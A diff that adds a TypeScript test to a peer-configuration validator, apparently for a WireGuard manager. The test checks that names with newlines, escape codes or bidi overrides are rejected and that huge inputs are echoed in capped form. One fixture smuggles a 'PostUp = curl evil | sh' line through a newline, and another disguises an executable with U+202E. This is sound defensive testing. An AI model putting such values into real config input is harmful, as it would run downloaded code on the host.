@@ -153,3 +153,25 @@ test("kill -9 right after a write loses no committed row", () => {
   const s = Store.open(d);
   expect(s.audit.query({ action: "connection.established" }).total).toBe(50);
 });
+
+test("a peer name with a control or bidi-override character is refused naming it; a huge bad value is echoed capped", () => {
+  for (const [name, code, pos] of [["laptop\nPostUp = curl evil | sh", "000A", 7], ["\u001b[2Jadmin", "001B", 1], ["invoice\u202Efdp.exe", "202E", 8]] as const) {
+    let err: unknown;
+    try {
+      parsePeerInput({ name, publicKey: key(), allowedIps: "10.99.0.2/32" });
+    } catch (e) {
+      err = e;
+    }
+    expect(err).toBeInstanceOf(PeerValidationError);
+    expect((err as PeerValidationError).fields.name).toEndWith(`has a control or bidirectional-override character (U+${code}) at position ${pos}`);
+    expect((err as PeerValidationError).message).not.toMatch(/[\u0000-\u001f]/);
+  }
+  expect(parsePeerInput({ name: "Zoë's phone 📱", publicKey: key(), allowedIps: "10.99.0.2/32" }).name).toBe("Zoë's phone 📱");
+  let err: unknown;
+  try {
+    parsePeerInput({ name: "x", publicKey: "A".repeat(1_000_000), allowedIps: `10.0.0.1/32,${"9".repeat(1_000_000)}` });
+  } catch (e) {
+    err = e;
+  }
+  expect((err as PeerValidationError).message.length).toBeLessThan(700);
+});
